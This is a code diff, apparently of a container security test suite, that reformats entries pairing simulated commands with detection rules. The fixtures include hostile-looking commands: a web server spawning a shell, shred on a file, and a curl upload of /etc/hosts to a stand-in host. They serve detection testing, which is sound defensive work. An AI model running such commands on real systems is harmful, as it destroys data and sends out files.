@@ -65,7 +65,7 @@ export const processes: Technique[] = [
   {
     what: "servers that start a shell",
     in: "plain",
-    script: "for i in nginx redis-server java; do /opt/bin/$i run sh -c \"true $i\"; done; /opt/bin/nginx run id",
+    script: 'for i in nginx redis-server java; do /opt/bin/$i run sh -c "true $i"; done; /opt/bin/nginx run id',
     alerts: { "server-child": { command: "sh -c true" } },
     rules: [
       "web-server-starts-a-shell",
@@ -84,7 +84,9 @@ export const processes: Technique[] = [
   named("a package manager", "/opt/bin/apt-get install x", "package-manager-executed-in-a-container"),
   named("a compiler", "/opt/bin/gcc x.c", "compiler-executed-in-a-container"),
   named("a user", "/opt/bin/useradd x", "user-made-or-changed-in-a-container"),
-  named("rights of root, asked for", "/opt/bin/sudo id", "rights-of-root-asked-for-in-a-container", { by: { user: 1000 } }),
+  named("rights of root, asked for", "/opt/bin/sudo id", "rights-of-root-asked-for-in-a-container", {
+    by: { user: 1000 },
+  }),
   named("data destroyed", "/opt/bin/shred /tmp/x", "data-destroyed"),
   named("a file sent out", "/opt/bin/curl -T /etc/hosts http://x.test/", "files-sent-out-by-a-command"),
   named("traffic recorded", "/opt/bin/tcpdump -i lo", "traffic-recorded-in-a-container"),
